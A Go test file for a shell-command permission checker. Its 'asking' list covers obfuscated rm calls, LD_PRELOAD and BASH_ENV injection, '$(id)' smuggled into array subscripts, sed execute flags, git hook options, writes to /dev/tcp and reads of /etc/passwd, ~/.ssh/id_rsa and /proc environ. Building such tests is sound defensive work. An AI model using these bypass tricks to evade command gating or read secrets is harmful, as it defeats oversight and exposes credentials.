package shell_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/attractor-go/attractor/rules/shell"
)

// asking holds scripts that may do more than read, one a line. Lines that begin with # say what
// follows. \n stands for a line break, and the like.
const asking = `
# options that a program takes otherwise than they look
git diff -R --output=x
git diff -U --output=x
git diff --unified --output=x
git log --format --output=x
git log --min-parents --output=x
git log --max-count --output=x
git shortlog --format --output=x
git branch --abbrev --edit-description
git branch --abbrev --unset-upstream
git blame --abbrev --contents=/etc/passwd a
git describe --abbrev --x a
diff -L -- --to-file=/etc/passwd a
diff -I -- a b
sort -k -- -ox a
sort --key --output=x a
rg -E --pre=./x a
xxd -ps a x
xxd -is a x
xxd -r a
xxd a x
strings @a
strings -n 4 @a
jq --indent --arg . /etc/passwd 2 .
jq -- . a
# quoting and escapes that hide a program
r\m x
'rm' x
"r"m x
r''m x
$'rm' x
$'\x72m' x
$"rm" x
\rm x
/bin/rm x
./ls
/tmp/x/rg y
$0 x
${x}rm y
$(echo rm) x
$(echo ls)
echo $(ls)
echo ${IFS}$(id)
echo "$(<secret)"
ls $(<secret)
ls $x
ls "$@"
ls ${x:-y}
echo $((x[$(id)]))
echo $[1+1]
echo ${x@P}
echo ~nobody
cd a b
cd -- sub
ls {a,b}
ls {1..3}
ls !(a)
ls @(a|b)
# expansions and operators in two lines
echo "$\\\n(touch x)"
echo "a$\\\n{x:=y}"
x="$\\\n(touch x)"
cat <\\\n(touch x)
cat <\\\n<E\nx\nE
# separators
ls; rm x
ls\nrm x
ls & rm x
ls | rm x
ls |& rm x
ls && rm x
ls || rm x
! rm x
{ rm x; }
(ls)
ls\r\nrm x
ls \\\n; rm x
ls #\nrm x
ls # a \\\nrm x
ls # a \\\\\nrm x
if ls; then rm x; fi
while ls; do rm x; done
until rm x; do ls; done
for f in a b; do rm x; done
for PATH in /tmp; do ls; done
for ((i=$(id);;)); do ls; done
select f in a; do rm x; done
case a in a) ls ;& b) rm x;; esac
case $(rm x) in a) ls;; esac
case a in $((x[$(id)]))) ls;; esac
time rm x
time -o f ls
coproc rm x
f() { rm x; }; f
function ls { rm x; }; ls
ls() { ls; }
let 'x=a[$(id)]'
((x=1))
[[ a || ./x ]]
[[ a < b ]]
[[ a == b ]]
[[ $? == 0 ]]
[ -t 1 ]
[[ x =~ a|./x ]]
[[ 'a[$(id)]' -eq 1 ]]
[ 'a[$(id)]' -eq 1 ]
[[ -v 'a[$(id)]' ]]
test -v 'a[$(id)]'
[ -R x ]
printf -v x y
printf '%n' PATH
printf '%5.3n' PATH
printf '%(a)T' x
printf '%d' 'a[$(id)]'
printf '%s %d' x a
printf '%s %d\n' x 1 y 'a[$(id)]'
printf '%*d' 'a[$(id)]' 1
printf '%.*f' 'a[$(id)]' 1
printf '%1$d' x
printf %x inf
printf '%d%%\n' 5
printf '%-5s|%05.2f\n' a 1.5 b -2
printf -- x
declare x=1
declare -i x='a[$(id)]'
typeset -n x=PATH
local x=1
readonly x=1
export x=1
read x
mapfile x
getopts a x
unset PATH
# files
echo hi > f
echo hi >> f
echo hi >| f
echo hi &> f
echo hi >& f
echo hi 2> f
echo hi <> f
> f
cat > /dev/tcp/1.2.3.4/80
echo hi 3>&1 >f
echo {fd}> f
echo hi > $x
echo hi > "$(id)"
echo hi > >(cat)
tee f
cat < $x
cat <<E\n$(rm x)\nE
cat <<E\n` + "`rm x`" + `\nE
cat <<< $(rm x)
cat <<E\na\\\nE\nrm x\nE
cat <<'E'#;rm x\nE
cat <<"E"#\nE#\nrm x\nE
cat <<E''#;rm x\nE
cat <<E'' #;x\nE\nrm x
echo a &>/dev/null rm x
&>/dev/null echo a
[[\nrm x\n]]
[[ -n\nx ]]
cat <<$(x)\na\n$(x)
diff <(rm x) b
tee >(rm x)
# variables
PATH=/tmp ls
PATH=/tmp; ls
PATH=/tmp :; ls
LD_PRELOAD=./x.so ls
BASH_ENV=./x ls
ENV=./x sh -c ls
IFS=x; ls
PS4='$(id)'; set -x; ls
RANDOM='a[$(id)]'
SECONDS='a[$(id)]'; ls
a[$(id)]=1
x=(a b); ls
x+=y; ls
x=$((a[$(id)])); ls
x=${y:=z}; ls
GIT_PAGER=id git log
LANGUAGE=../../../x ls
LANGUAGE=de:/x ls
LANGUAGE=$x ls
LANGUAGE="$(pwd)" ls
LC_ALL=/x sort a
LC_MESSAGES=../x; ls
LANG=../x timeout 5 ls
export LANG=./x; ls
for LANGUAGE in ../x; do ls; done
TZ=:/x date
TZ=:x date
TZ=/x date
TZ=../../x date
TERM=../x ls
COLUMNS='a[$(touch x)]' ls
LINES=x ls
COLUMNS=a; ls
export LINES='a[$(touch x)]'; ls
set
set; ls
date -d 'TZ="../x" now'
tail +1f a
tail +f a
tail -- +5cf a
fmt -p b a
fmt -t b a
ls -w b a
ls -I b a
ls -T b a
seq 1 1e-300 2
seq 1 0 2
seq 0 0.5 10
# wrappers
sudo ls
doas ls
env
env ls
env x=1 ls
env -S 'ls'
printenv
nohup ls
setsid ls
xargs ls
ls | xargs rm
ls | xargs cat
./timeout 5 ls
/tmp/x/nice ls
sub/bash -c ls
./sh -c ls
./command ls
./builtin ls
./stdbuf -oL ls
bin/time ls
timeout 5 ./nice ls
timeout 5 rm x
timeout $x ls
timeout --strange 5 ls
nice rm x
nice -n $(id) ls
stdbuf -oL rm x
command rm x
command export PATH=/tmp
'export' PATH=/tmp
builtin eval 'rm x'
command -p rm x
exec ls
exec 3<&0
eval ls
. ./x
source x
trap 'rm x' EXIT
alias ls=rm
alias ls=rm; ls
enable -n ls
hash -p ./x ls; ls
shopt -s expand_aliases
set -k; ls x=1
set -o posix
bind -x '"a":rm'
sh x
sh -c 'rm x'
sh -c "$x"
sh -c 'ls "$1"' x y
bash -ic ls
bash -c 'ls; rm x'
bash --rcfile x -c ls
bash -c "bash -c 'rm x'"
bash -O extglob -c ls
bash < x
echo 'rm x' | bash
zsh -c 'ls =(rm x)'
zsh -c 'echo *(e:rm:)'
ksh -c ls
busybox rm x
flock f ls
watch ls
parallel ls
ssh h ls
su -c ls
python -c 'x'
python3 x.py
perl -e x
node x.js
ruby x
awk 'BEGIN{system("id")}'
awk 1 f
# options of commands that read
sort -o f x
sort --output=f x
sort --outp=f x
sort -uo f x
sort --compress-program=./x f
sort --comp=./x f
sort --files0-from=f
sort -T d f
sort --random-source=f f
uniq a b
uniq -c a b
tail -f f
tail -5f f
tail -F f
tail --follow f
tail --retry f
head --zzz f
wc --files0-from=f
du --files0-from=f
cat --zzz f
diff -l a b
diff --paginate a b
diff --to-file=x a
base64 -o f x
base64 -i x
xxd -r a b
xxd -autoskip a
xxd a -c
xxd -c8 a
xxd -- a
xxd a b
xxd -r f
od --zzz
file -C -m f
file -f f
file -z f
date -s now
date --set=now
date 010203
hostname x
hostname -F f
seq inf
seq 1 99999999999
sleep inf
yes
sha256sum -c f
tree -o f
tree -R
find . -delete
find . -exec rm {} ;
find . -exec rm {} \;
find . -execdir rm {} +
find . -ok rm {} \;
find . -okdir rm {} \;
find . -fprint f
find . -fprint0 f
find . -fprintf f %p
find . -fls f
find -files0-from f
find -f x
find . -name x -delete
find . -D exec
find . -print -- x
find . -zzz
fd -x rm
fd -X rm
fd --exec rm
fd -l
fdfind --exec-batch rm
rg --pre ./x y
rg --pre=./x y
rg -z y
rg --search-zip y
rg --hostname-bin=./x y
rg --ignore-file x y
grep --zzz x
grep -d recurse x .
sed -i s/a/b/ f
sed -ni p f
sed -n -i p f
sed --in-place s/a/b/ f
sed -n 'w f' x
sed -n '1e id' f
sed 's/x/y/e' f
sed 's/x/y/w f' x
sed -n '/x/w f' x
sed -f s f
sed -s -n '1r /etc/passwd' f
sed -n '1{p;w f' x
sed 'e id' f
sed 's/a\\/b/;w f/' x
sed "s/[/]/e/;s/x/y/e" f
sed 's/[]/]/x/w f' f
sed 's/\[/]/;w f' f
sed -e p --expression='w f' f
sed -n 'p\nw f' x
sed --expression='w f' x
jq env f
jq '$ENV' f
jq 'import "x" as y; .' f
jq -f x f
jq -L d . f
jq --rawfile a f . g
ls -zzz
stat --zzz f
column --zzz
tr a b > f
tar tf x
unzip -l x
less f
more f
man ls
vi f
ps aux
curl http://x
wget x
ping x
nc x
dig x
touch f
mkdir d
mv a b
cp a b
ln a b
chmod +x f
truncate -s 0 f
dd if=a of=b
make
make -n
npm test
npm ls
yarn --version
cargo --version
cargo check
go build ./...
go test ./...
go run .
go version
go env
go env GOMOD
go help build
go doc fmt
go env -w X=Y
go env -u X
go list ./...
go generate
go version -m f
go doc -http
go doc example.com/x@v1.0.0
go vet
gofmt -w f
gofmt -r 'a -> b' f
pip list
docker ps
kubectl get pods
# git
git -c core.fsmonitor=./x status
git --git-dir=x status
git --work-tree=x status
git --exec-path=x status
git --config-env=a=b status
git -p log
git --paginate log
git --bare log
git --namespace=x log
git zzz
git commit
git add .
git push
git fetch
git pull
git clone x
git checkout x
git restore x
git reset
git stash
git stash pop
git stash drop
git branch x
git branch -d x
git branch -D x
git branch -m x
git branch -f x
git branch --list -d x
git branch --edit-description
git branch -u x
git branch -l x
git tag x
git tag -d x
git tag -a x
git tag -v x
git remote add a b
git remote update
git remote show origin
git remote prune origin
git config a.b c
git config --unset a.b
git config --global a.b c
git config -e
git config set a.b c
git config --add a.b c
git config -f x --get a.b
git reflog expire --all
git reflog delete x
git worktree add x
git worktree remove x
git submodule status
git submodule update
git notes add
git notes -
git remote -
git notes --ref=x add
git notes --ref list add
git stash -q list
git symbolic-ref HEAD refs/heads/x
git symbolic-ref -d HEAD
git diff --output=f
git diff --output f
git diff --outp=f
git diff --ext-diff
git diff --textconv
git diff --no-index a b
git diff -Of
git diff -O f
git log --show-signature
git log --format=%G?
git log --format=%+GS
git log --format='%-G?'
git log --format='% GK'
git log --diff-merges=remerge
git show --diff-merges r
git whatchanged
git log --pretty=format:%GS
git for-each-ref --format='%(signature)'
git log --output=f
git log --ext-diff
git show --textconv
git grep -O x
git grep --open-files-in-pager x
git grep -Oless x
git grep --no-index x
git grep -f f
git blame --contents f x
git ls-files -X f
git ls-files --exclude-from=f
git cat-file --textconv x
git cat-file --filters x
git cat-file --batch
git archive HEAD
git bundle list-heads x
git ls-remote
git verify-commit x
git difftool
git bisect log
git help log
git rev-parse --parseopt
git update-index --refresh
git gc
git fsck
git diff > f
# text that shells may read differently
ls` + "\u00a0" + `x
l` + "\u200b" + `s
ｌs
lѕ
ls ` + "\x1b" + `[31m
ls ` + "\x00" + `
ls ` + "\xff" + `
ls 'x
ls "x
ls && && pwd
ls )
`

// harmless holds scripts that only read and must not ask.
const harmless = `
ls
ls -la
ls -la sub a
/bin/ls
/usr/bin/env-is-not-here || true # of the next lines none is run
pwd
pwd && ls
ls | wc -l
ls; pwd
ls & pwd
ls \\\n -l
l\s
'ls' -l
"ls"
! ls
{ ls; pwd; }
if test -d sub; then ls sub; else pwd; fi
if [ -f a ]; then cat a; elif [ -d b ]; then ls b; fi
[[ -f a ]] && cat a
[ 1 -eq 2 ] || echo no
[ "$?" = 0 ]
[ $? -eq 0 ] && echo ok
false; exit $?
case a in a) ls;; esac
for i in 1 2 3; do ls; done
cat a
cat a b | head -n 5
cat < a
cat <<'E'\n$(rm x)\nE
cat <<E\nplain\nE
cat <<< hi
ls 2>/dev/null
ls >/dev/null 2>&1
ls &>/dev/null
ls 2>&1 | head -20
cd sub && ls
cd sub; ls
cd .. ; pwd
x=1; ls
x=1 ls
LC_ALL=C sort a
TZ=UTC date
TZ='America/New_York' date
TZ='<+03>-3' date
LANG=de_DE.UTF-8@euro LANGUAGE=de:en ls
LC_ALL= sort a
LC_ALL=C; sort a
time ls
timeout 10 ls
timeout -k 5s 10s cat a
nice ls
nice -n 10 ls
stdbuf -oL cat a
command ls
command -v go
type ls
which -a go
set -e; ls
set -euo pipefail; ls
set -ex\nls
bash -c ls
bash -lc 'ls && pwd'
sh -c "cat a | wc -l"
zsh -lc 'ls -la'
bash -euo pipefail -c 'ls'
echo hello world
echo "a; rm -rf /"
echo 'a > b'
echo -n hi
echo "exit: $?"
ls; echo $?
printf '%s\n' a b
printf '%s\n' 'a[$(id)]'
printf '%5s' x
COLUMNS=120 ls
tail +5 a
git log --diff-merges=first-parent -p
false || true
exit 1
sleep 1
seq 1 10
head -n 20 a
head -20 a
head -c 100 a
tail -n 5 a
tail -20 a
tail -n +5 a
wc -l a b
wc -l *.go
nl -ba a
sort a
sort -k2,2 -t: -n a
sort -u a | uniq -c | sort -rn | head
uniq a
cut -d: -f1 a
tr a-z A-Z < a
tac a
rev a
diff a b
diff -u a b
diff -ru sub sub
cmp a b
comm -12 a b
stat a
stat -c %s a
file a
du -sh .
df -h
basename /x/y .z
dirname /x/y
realpath a
readlink -f a
date
date +%Y-%m-%d
date -u
date -Iseconds
id -u
whoami
uname -a
nproc
hostname
sha256sum a
md5sum a
base64 a
base64 -d a
numfmt 1000
xxd a
xxd -p -l 16 -s +4 -c 8 a
sed 's/\[\/x]/[^a]/gp' a
sed -n '/[^x]*/,+3p;$!d' a
od -c a
hexdump -C a
strings a
column -t a
jq . a
jq -r .x a
jq --arg a b . a
tree -L 2
find .
find . -name '*.go'
find . -type f -name '*.go' -not -path './x/*' | head
find sub -maxdepth 2 -type d
find . -newer a
find . \( -name a -o -name b \) -print
find . -size +1M -printf '%s %p\n'
fd x
fdfind -e go
grep x a
grep -n x a b
grep -rn x .
grep -rn --include='*.go' x sub
grep -E 'a|b' a
grep -c x a || true
grep -A3 -B3 x a
grep -v x a | grep -i y
rg x
rg -n x sub
rg -l x -g '*.go'
rg --files
rg --files | wc -l
rg -A 3 x
rg -t go x
rg --hidden --no-ignore x
sed -n 5p a
sed -n 1,5p a
sed -n '1,200p' a
sed -n '$p' a
sed -n '/x/p' a
sed -n '/x/,/y/p' a
sed 's/a/b/' a
sed 's/[a-z]*/x/g' a
sed -E 's#a#b#g' a
sed -e 's/a/b/' -e 1d a
sed -n '10,$p;20q' a
cat a | sed 's/x//'
gofmt -l .
gofmt -d a
node --version
python3 --version
npm --version
ls *.go
cat s*/x.go
git --version
git status
git status -s
git status --short --branch
git status --porcelain=v1
git --no-pager log --oneline -5
git log --oneline -n 20
git log -5 --stat
git log -p -- a
git log --format='%h %s' HEAD~3..HEAD
git log --since=yesterday --author=x
git log --graph --all --decorate
git -C . log
git diff
git diff --stat
git diff --cached
git diff --staged
git diff HEAD~1 -- a
git diff --name-only main...HEAD
git diff -U10 a
git diff -w
git show
git show HEAD
git show --stat HEAD
git show HEAD:a
git blame -L 1,5 a
git branch
git branch -a
git branch -vv
git branch --show-current
git branch --list 'x*'
git branch --merged
git tag
git tag -l 'v*'
git remote
git remote -v
git config user.name
git config --get user.name
git config --list
git stash list
git stash show -p
git reflog
git reflog -n 5
git notes --ref=x list
git ls-files
git ls-files -m
git ls-tree -r HEAD
git rev-parse HEAD
git rev-parse --show-toplevel
git rev-parse --abbrev-ref HEAD
git rev-list --count HEAD
git merge-base a b
git describe --tags
git shortlog -sn HEAD
git grep -n x
git cat-file -p HEAD
git worktree list
git check-ignore a
git for-each-ref --sort=-committerdate
git show-ref
git count-objects -v
cd sub && git status && git diff --stat
`

// scripts returns the scripts of a list.
func scripts(list string) (all []string) {
	for line := range strings.Lines(list) {
		if line = strings.TrimSuffix(line, "\n"); line != "" && !strings.HasPrefix(line, "#") &&
			!strings.Contains(line, "is-not-here") {
			all = append(all, strings.NewReplacer(`\\\n`, "\\\n", `\r\n`, "\r\n", `\n`, "\n").Replace(line))
		}
	}
	return all
}

// ordinary returns an ordinary repository with a few files.
func ordinary(t *testing.T) *place {
	t.Helper()
	p := newPlace(t)
	p.git(".", "init", "-q")
	p.put("a", "x\n")
	p.put("b", "x\n")
	p.put("one.go", "package x\n")
	p.put("sub/x.go", "package x\n")
	p.git(".", "add", ".")
	p.git(".", "commit", "-q", "-m", "x")
	return p
}

// TestL2_Asks checks scripts that must never run without a question.
func TestL2_Asks(t *testing.T) {
	p := ordinary(t)
	for _, script := range scripts(asking) {
		if files, why := p.judge(script); why == "" {
			t.Errorf("%q is taken for reading: %v", script, files)
		}
	}
}

// TestL2_Harmless checks ordinary scripts that must run without a question.
func TestL2_Harmless(t *testing.T) {
	p := ordinary(t)
	for _, script := range scripts(harmless) {
		files, why := p.judge(script)
		if why != "" {
			t.Errorf("%q asks: %s", script, why)
		}
		for _, f := range files {
			if !filepath.IsAbs(f.Path) {
				t.Errorf("%q reads %q, which is not absolute", script, f.Path)
			}
		}
	}
	t.Logf("%d scripts ask, %d do not", len(scripts(asking)), len(scripts(harmless)))
}

// TestL2_Files checks which files commands are said to read. T stands for a whole tree, V for the
// visible part of it, N for names alone.
func TestL2_Files(t *testing.T) {
	p := ordinary(t)
	p.put(".env", "x")
	for _, c := range []struct{ script, want string }{
		{"cat a ./b sub/../a", "a b sub/../a"},
		{"cat ~/.ssh/id_rsa", "~/.ssh/id_rsa"},
		{"cat /proc/1/environ", "/proc/1/environ"},
		{"cat -- -n", "-n"},
		{"cat - a", "a"},
		{"cat < .env", ".env"},
		{"cd sub && cat x.go < ../a", "sub/../a sub/x.go"},
		{"head -n 5 a | wc -l b", "a b"},
		{"cat *.go", "one.go"},
		{"cat */*.go", "sub/x.go"},
		{"cat .e*", ".env"},
		{"ls .*", ". .. .env .git N"},
		{"cat *.none", "*.none"},
		{"ls", ". N"},
		{"ls -R sub", "sub NT"},
		{"stat a", "a N"},
		{"find . sub -name x", ". sub NT"},
		{"find -newer a", ". NT a N"},
		{"find -ls sub", ". sub NT"},
		{"du", ". NT"},
		{"grep x a", "a"},
		{"grep -e x a", "a"},
		{"grep -f b x", "b x"},
		{"grep -fb x", "b x"},
		{"grep --file=b x", "b x"},
		{"grep -r x", ". T"},
		{"grep -rn x sub", "sub T"},
		{"rg x", ". TV"},
		{"rg -e x sub a", "sub a TV"},
		{"rg --files sub", "sub TV"},
		{"rg x -g '*.go' -g '!.git'", ". TV"},
		{"rg x -g .env", ". T"},
		{"rg x -g '*.env'", ". T"},
		{"rg x -g 'sub/*'", ". T"},
		{"rg -uu x", ". T"},
		{"rg --hidden x", ". T"},
		{"sed -n p a", "a"},
		{"sed -n -e p a", "a"},
		{"jq .x a", "a"},
		{"jq --arg k .env . a", "a"},
		{"diff -r sub sub", "sub sub T"},
		{"diff sub sub", "sub sub T"},
		{"sort -k 2 a", "a"},
		{"cut -d : -f 1 a", "a"},
		{"tr a b < a", "a"},
		{"echo a", ""},
		{"timeout 5 cat a", "a"},
		{"bash -c 'cat a' < b", "b b a"},
		{"gofmt -l sub", "sub T"},
		{"git show HEAD:.env", ". NT HEAD:.env .env .env"},
		{"git -C sub log -p -- x.go", ". NT sub/x.go"},
		{"cd sub && git diff ../a", ". NT sub/../a"},
		{"git grep x a", ". NT a"},
	} {
		files, why := p.judge(c.script)
		if why != "" {
			t.Errorf("%q asks: %s", c.script, why)
		}
		if got := p.short(files); got != c.want {
			t.Errorf("%q reads %q, want %q", c.script, got, c.want)
		}
	}
}

// short describes files with names from the directory of the place. A mark stands behind the last
// file that it is about.
func (p *place) short(files []shell.File) string {
	var words []string
	for i, f := range files {
		name := f.Path
		if rel, ok := strings.CutPrefix(name, p.home+"/"); ok {
			name = "~/" + rel
		}
		if rel, ok := strings.CutPrefix(name, p.dir+"/"); ok {
			name = rel
		} else if name == p.dir {
			name = "."
		}
		words = append(words, name)
		mark := map[[2]bool]string{{true, false}: "N", {false, true}: "T", {true, true}: "NT"}[[2]bool{f.Names, f.Tree}]
		if f.Visible {
			mark += "V"
		}
		if last := i+1 == len(files) || files[i+1].Names != f.Names || files[i+1].Tree != f.Tree; last && mark != "" {
			words = append(words, mark)
		}
	}
	return strings.Join(words, " ")
}

// TestL2_Patterns checks that patterns of file names ask where they can stand for options or for
// files that are not known.
func TestL2_Patterns(t *testing.T) {
	for _, c := range []struct {
		file, script string
		asks         bool
	}{
		{"-o", "sort *", true},
		{"--pre=x", "rg y *", true},
		{"-oé", "sort ????", true}, // é has two bytes, which some shells count
		{"é", "cat ?", true},
		{"é", "cat é*", false},
		{"-o", "sort ./*", false},
		{"d/-o", "sort d/*", false},
		{"x", "cat ?", true},
		{"x", "cat [a-z]*", true},
		{"x", "cat [[:alpha:]]", true},
		{"x1", "cat x[0-9]", true},
		{"x", "cat /root/*", true},
		{"x", "cd $y; cat *", true},
		{"x", "*", true},
	} {
		p := newPlace(t)
		p.put(c.file, "x")
		if files, why := p.judge(c.script); (why != "") != c.asks {
			t.Errorf("%q beside %q: %v, %q", c.script, c.file, files, why)
		}
	}
	p := newPlace(t)
	if err := os.Symlink("/", filepath.Join(p.dir, "link")); err != nil {
		t.Fatal(err)
	}
	if files, why := p.judge("cat */pass*"); why == "" {
		t.Errorf("a pattern goes through a link to the outside: %v", files)
	}
	for i := range 600 {
		p.put(fmt.Sprint("many/", i), "x")
	}
	if _, why := p.judge("cat many/*"); why == "" {
		t.Error("a pattern matches any number of files")
	}
}

// TestL2_Shadowed checks that a program which PATH finds in the workspace is not taken for the
// system's.
func TestL2_Shadowed(t *testing.T) {
	p := newPlace(t)
	for _, name := range []string{"rg", "timeout", "bash"} {
		p.put("bin/"+name, "#!/bin/sh\n")
	}
	p.put("ls", "#!/bin/sh\n")
	for _, c := range []struct {
		vars   []string
		script string
		asks   bool
	}{
		{[]string{"PATH=/usr/bin:/bin"}, "ls", false},
		{[]string{"PATH=" + p.dir + "/bin:/usr/bin"}, "ls", false},
		{[]string{"PATH=" + p.dir + "/bin:/usr/bin"}, "rg x", true},
		{[]string{"PATH=" + p.dir + "/bin:/usr/bin"}, "/usr/bin/rg x", false},
		{[]string{"PATH=.:/usr/bin"}, "ls", true},
		{[]string{"PATH=/usr/bin:"}, "ls", true},
		{[]string{"PATH=" + p.dir + "/bin:/usr/bin"}, "timeout 5 ls", true},
		{[]string{"PATH=" + p.dir + "/bin:/usr/bin"}, "bash -c ls", true},
		{[]string{"PATH=" + p.dir + "/bin:/usr/bin"}, "/usr/bin/timeout 5 ls", false},
		{[]string{"BASH_FUNC_command%%=() { rm x; }"}, "command ls", true},
		{[]string{"CDPATH=/etc"}, "cd bin && ls", true},
		{[]string{"CDPATH=/etc"}, "cd ./bin && ls && cd " + p.dir, false},
		{[]string{"GLOBIGNORE=x"}, "cat *", true},
		{[]string{"BASHOPTS=dotglob"}, "cat *", true},
		{[]string{"PATH=bin:/usr/bin"}, "rg x", true},
		{[]string{"BASH_FUNC_ls%%=() { rm x; }"}, "ls", true},
		{[]string{"RIPGREP_CONFIG_PATH=/x"}, "rg x", true},
	} {
		p.vars = c.vars
		if _, why := p.judge(c.script); (why != "") != c.asks {
			t.Errorf("%q with %q: %q", c.script, c.vars, why)
		}
	}
}

// TestL2_ShadowedThroughLinks checks that a program which PATH finds is compared with the
// directories that tools may write after links in the entries of PATH, the program and the
// directories are resolved.
func TestL2_ShadowedThroughLinks(t *testing.T) {
	p := newPlace(t)
	p.put("bin/rg", "#!/bin/sh\n")
	p.put("~/added/jq", "#!/bin/sh\n")
	p.put("~/.local/bin/fd", "#!/bin/sh\n")
	for name, to := range map[string]string{"entry": p.dir + "/bin", "worklink": p.dir, "addlink": "added",
		"chain": "entry", "tools/wc": p.dir + "/bin/rg", "tools/cat": "../added/jq", "tools/head": "nowhere",
		"relative": "../work/bin"} {
		link := filepath.Join(p.home, name)
		if err := os.MkdirAll(filepath.Dir(link), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(to, link); err != nil {
			t.Fatal(err)
		}
	}
	added := []string{p.home + "/added"}
	for _, c := range []struct {
		path, script string
		roots        []string
		asks         bool
	}{
		{p.home + "/entry:/usr/bin", "rg x", nil, true},
		{p.home + "/entry:/usr/bin", "ls", nil, false},
		{p.home + "/chain:/usr/bin", "rg x", nil, true},
		{p.home + "/relative:/usr/bin", "rg x", nil, true},
		{p.home + "/worklink/bin:/usr/bin", "rg x", nil, true},
		{p.home + "/entry/../bin:/usr/bin", "rg x", nil, true},
		{p.home + "/tools:/usr/bin", "wc a", nil, true},
		{p.home + "/tools:/usr/bin", "cat a", added, true},
		{p.home + "/tools:/usr/bin", "cat a", nil, false},
		{p.home + "/tools:/usr/bin", "head a", added, false},
		{p.home + "/added:/usr/bin", "jq . a", added, true},
		{p.home + "/addlink:/usr/bin", "jq . a", added, true},
		{p.home + "/added:/usr/bin", "jq . a", nil, false},
		{p.home + "/entry:/usr/bin", "timeout 5 ls", nil, false},
		{p.home + "/entry:/usr/bin", "timeout 5 rg x", nil, true},
		{"~/.local/bin:/usr/bin", "fd x", nil, true},
		{"~/.local/bin:/usr/bin", "ls", nil, true},
		{"~root/bin:/usr/bin", "ls", nil, true},
		{"", "ls", nil, true},
		{":/usr/bin", "ls", nil, true},
		{"/usr/bin::/bin", "ls", nil, true},
		{"/usr/bin:tools", "ls", nil, true},
		{"/usr/bin:../tools", "cd sub && ls", nil, true},
		{"/usr/bin:/bin", "ls", added, false},
	} {
		p.vars, p.roots = []string{"PATH=" + c.path}, c.roots
		if _, why := p.judge(c.script); (why != "") != c.asks {
			t.Errorf("%q with PATH %q and %q: %q", c.script, c.path, c.roots, why)
		}
	}
}

// TestL2_HarmlessListsAreDistinct checks that no script is in both lists.
func TestL2_HarmlessListsAreDistinct(t *testing.T) {
	asking := scripts(asking)
	for _, script := range scripts(harmless) {
		if slices.Contains(asking, script) {
			t.Errorf("%q is in both lists", script)
		}
	}
}

// What a command that only runs others does itself counts too, also if its script is empty.
func TestL2_EmptyScript(t *testing.T) {
	p := ordinary(t)
	for _, script := range []string{"bash -c '' > f", "bash -c '#' >> f", "BASH_ENV=./x bash -c ''", "(bash -c '')"} {
		if files, why := p.judge(script); why == "" {
			t.Errorf("%q is taken for reading: %v", script, files)
		}
	}
}
